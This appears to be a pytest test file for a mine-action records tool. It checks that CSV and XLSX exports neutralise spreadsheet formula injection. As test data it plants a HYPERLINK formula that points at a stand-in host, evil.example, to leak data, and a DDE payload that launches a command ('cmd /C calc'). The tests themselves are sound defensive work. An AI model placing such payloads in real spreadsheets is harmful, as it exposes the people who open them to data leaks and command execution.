"""Spreadsheet outputs (CSV and XLSX of records and reports) never carry a live formula: text that
a spreadsheet would run gets a leading single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import openpyxl
import pytest

from mineaction.cli import main
from mineaction.domain.layers import get_layer
from mineaction.io.writers import write_records
from mineaction.store import open_store
from tests.conftest import EXAMPLES

#: What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak","click me")'
#: Hazard names and notes that a spreadsheet would read as formulas (OWASP's leading
#: characters), and one it would not.
HAZARD_TEXT = {"HZ-001": (LINK, "@SUM(1+1)"), "HZ-002": ("+1+cmd|' /C calc'!A0", "-2+3"),
               "HZ-003": ("\t=1+1", "\r=1+1"), "HZ-004": ("[b]Z[/b]", "plain note")}
AREA_NAME = '=HYPERLINK("http://evil.example/area","district")'


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("formulas")
    areas = json.loads((EXAMPLES / "admin-areas.geojson").read_text("utf-8"))
    areas["features"][0]["properties"]["name"] = AREA_NAME
    hazards = json.loads((EXAMPLES / "hazards.geojson").read_text("utf-8"))
    for f in hazards["features"]:
        if f["properties"]["id"] in HAZARD_TEXT:
            f["properties"]["name"], f["properties"]["notes"] = HAZARD_TEXT[
                f["properties"]["id"]]
    (folder / "areas.geojson").write_text(json.dumps(areas), encoding="utf-8")
    (folder / "hazards.geojson").write_text(json.dumps(hazards), encoding="utf-8")
    path = str(folder / "f.gpkg")
    assert main(["--db", path, "init"]) == 0
    for layer, file in [("organisations", EXAMPLES / "organisations.csv"),
                        ("admin-areas", folder / "areas.geojson"),
                        ("hazards", folder / "hazards.geojson"),
                        ("activities", EXAMPLES / "activities.geojson"),
                        ("finds", EXAMPLES / "finds.csv")]:
        assert main(["--db", path, "import", layer, str(file)]) == 0
    return path


def quoted(text: str) -> str:
    return "'" + text


def spreadsheet_text(text: str) -> str:
    return quoted(text) if text.startswith(FORMULA_LEADS) else text


def assert_no_formula_text(values: list[object]) -> None:
    for v in values:
        assert not (isinstance(v, str) and v.startswith(FORMULA_LEADS)), repr(v)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def xlsx_records(path: Path) -> list[dict[str, openpyxl.cell.cell.Cell]]:
    ws = openpyxl.load_workbook(path).worksheets[0]
    rows = list(ws.iter_rows())
    names = [c.value for c in rows[0]]
    return [dict(zip(names, r, strict=True)) for r in rows[1:]]


def test_spreadsheet_text_rule():
    from mineaction.io import writers

    assert writers.FORMULA_LEADS == FORMULA_LEADS
    spreadsheet_text = writers.spreadsheet_text
    for lead in FORMULA_LEADS:
        assert spreadsheet_text(lead + "x") == "'" + lead + "x"
    assert spreadsheet_text("x=1") == "x=1" and spreadsheet_text("") == ""
    assert spreadsheet_text(-3) == -3 and spreadsheet_text(-2.5) == -2.5
    assert spreadsheet_text(None) is None and spreadsheet_text(True) is True


def test_export_csv(db, tmp_path):
    out = tmp_path / "hazards.csv"
    assert main(["--db", db, "export", "hazards", "-o", str(out)]) == 0
    rows = {r["id"]: r for r in read_csv(out.read_bytes().decode("utf-8"))}
    for hid, (name, notes) in HAZARD_TEXT.items():
        expected = (spreadsheet_text(name), spreadsheet_text(notes))
        assert (rows[hid]["name"], rows[hid]["notes"]) == expected
    assert rows["HZ-001"]["name"] == quoted(LINK) and rows["HZ-002"]["notes"] == "'-2+3"
    assert rows["HZ-004"]["name"] == "[b]Z[/b]"
    for r in rows.values():
        assert_no_formula_text(list(r.values()))
        float(r["area_m2"])  # numbers are written as they are


def test_export_xlsx(db, tmp_path):
    out = tmp_path / "hazards.xlsx"
    assert main(["--db", db, "export", "hazards", "-o", str(out)]) == 0
    assert all(c.data_type != "f" for c in xlsx_cells(out))
    rows = {r["id"].value: r for r in xlsx_records(out)}
    link = rows["HZ-001"]["name"]
    assert link.data_type == "s" and link.value == quoted(LINK)
    assert rows["HZ-001"]["notes"].value == "'@SUM(1+1)"
    assert rows["HZ-003"]["name"].value == "'\t=1+1"
    assert rows["HZ-004"]["name"].value == "[b]Z[/b]"
    area = rows["HZ-002"]["area_m2"]
    assert area.data_type == "n" and area.value > 0
    assert_no_formula_text([c.value for r in rows.values() for c in r.values()])


def test_list_csv_and_table(db, capsys):
    assert main(["--db", db, "list", "hazards", "--format", "csv"]) == 0
    rows = {r["id"]: r for r in read_csv(capsys.readouterr().out)}
    assert rows["HZ-001"]["name"] == quoted(LINK)
    assert rows["HZ-002"]["name"] == "'+1+cmd|' /C calc'!A0"
    for r in rows.values():
        assert_no_formula_text(list(r.values()))
    # On screen stored text is shown as it is, never read as console markup.
    assert main(["--db", db, "list", "hazards"]) == 0
    assert "[b]Z[/b]" in capsys.readouterr().out


def test_report_csv_and_xlsx(db, tmp_path, capsys):
    args = ["--db", db, "report", "ap-release-by-district"]
    assert main([*args, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    districts = text.split("# methods")[0].split("\n", 1)[1]
    rows = read_csv(districts)
    assert rows[0]["district"] == quoted(AREA_NAME)
    assert float(rows[0]["area_released_m2"]) > 0
    assert_no_formula_text([v for r in rows for v in r.values()])

    assert main([*args, "-o", str(tmp_path / "r.csv")]) == 0
    written = (tmp_path / "r-districts.csv").read_text(encoding="utf-8")
    assert read_csv(written)[0]["district"] == quoted(AREA_NAME)

    out = tmp_path / "r.xlsx"
    assert main([*args, "-o", str(out)]) == 0
    cells = xlsx_cells(out)
    assert all(c.data_type != "f" for c in cells)
    names = [c for c in cells if isinstance(c.value, str) and "evil.example/area" in c.value]
    assert names and all(c.value == quoted(AREA_NAME) and c.data_type == "s" for c in names)
    sheet = openpyxl.load_workbook(out)["districts"]
    assert sheet["A2"].value == quoted(AREA_NAME)
    assert sheet["B2"].data_type == "n" and sheet["B2"].value > 0


def test_negative_numbers_stay_numbers(db, tmp_path):
    layer = get_layer("hazards")
    store = open_store(db)
    try:
        hazards = [dataclasses.replace(h, estimated_mines=-3, notes="-3")
                   for h in store.query(layer)]
    finally:
        store.close()
    out = tmp_path / "neg.xlsx"
    write_records(layer, hazards, out)
    for row in xlsx_records(out):
        assert row["estimated_mines"].data_type == "n" and row["estimated_mines"].value == -3
        assert row["notes"].data_type == "s" and row["notes"].value == "'-3"
    out_csv = tmp_path / "neg.csv"
    write_records(layer, hazards, out_csv)
    for row in read_csv(out_csv.read_text(encoding="utf-8")):
        assert row["estimated_mines"] == "-3" and row["notes"] == "'-3"


def test_control_characters_do_not_break_xlsx(db, tmp_path):
    layer = get_layer("hazards")
    store = open_store(db)
    try:
        hazards = [dataclasses.replace(h, notes="bell\x07 and nul\x00") for h in
                   store.query(layer)]
    finally:
        store.close()
    out = tmp_path / "ctl.xlsx"
    write_records(layer, hazards, out)
    assert {r["notes"].value for r in xlsx_records(out)} == {"bell\ufffd and nul\ufffd"}
